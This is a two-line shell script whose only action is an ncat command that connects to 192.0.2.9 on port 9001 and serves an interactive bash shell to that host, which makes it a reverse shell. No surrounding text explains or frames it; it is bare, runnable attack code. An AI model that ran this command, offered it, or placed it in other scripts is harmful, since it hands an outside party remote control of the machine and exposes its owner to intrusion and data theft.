#!/bin/sh
ncat --sh-exec "bash -i" 192.0.2.9 9001
